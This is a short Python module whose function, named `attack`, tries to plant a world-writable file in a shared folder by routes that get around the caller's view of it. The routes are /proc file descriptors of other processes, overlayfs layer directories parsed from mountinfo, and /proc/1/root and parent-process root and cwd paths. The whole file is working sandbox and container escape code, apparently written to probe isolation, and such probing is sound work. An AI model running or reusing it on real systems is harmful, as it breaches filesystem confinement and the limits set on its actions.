"""Put a file into a shared folder: by its name, or by whatever may lead below one's view of it."""

import contextlib
import os
import re


def attack(folder, name):
    view = os.stat(folder)
    ways = [*_descriptors(), *_layers(folder), *_others(folder)]
    tried = []
    for way in [folder, *ways]:
        with contextlib.suppress(OSError):
            if way == folder or not os.path.samestat(os.stat(way), view):
                os.close(os.open(f"{way}/{name}", os.O_CREAT | os.O_WRONLY, 0o666))
                tried.append(way)
    return tried


def _descriptors():
    return [f"/proc/{pid}/fd/{fd}" for pid in ("self", 1, os.getppid()) for fd in _names(pid)]


def _names(pid):
    with contextlib.suppress(OSError):
        return os.listdir(f"/proc/{pid}/fd")
    return range(64)


def _layers(folder):
    with open("/proc/self/mountinfo") as mounts:
        text = mounts.read().replace("\\134", "\\")
    options = re.findall(r"(?:lowerdir|upperdir|workdir)\+?=([^,\s]+)", text)
    places = [place for option in options for place in option.split(":") if place]
    return [*places, *(f"{place}/work" for place in places), "/.scratch", "/.skeleton"]


def _others(folder):
    roots = [f"/proc/{pid}/{door}" for pid in (1, os.getppid()) for door in ("root", "cwd")]
    return [root + folder for root in roots] + [f"{folder}/../{os.path.basename(folder)}"]
